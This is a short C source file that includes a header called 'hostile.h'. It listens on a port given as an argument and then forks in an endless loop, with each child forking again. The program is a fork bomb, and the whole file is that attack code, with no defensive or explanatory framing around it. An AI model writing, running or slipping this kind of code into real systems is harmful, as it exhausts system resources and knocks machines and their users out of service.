/* Listens, then forks without end: every child forks too. */
#include "hostile.h"

int main(int argc, char **argv)
{
    listen_on(port_argument(argc, argv));
    for (;;)
        fork();
}
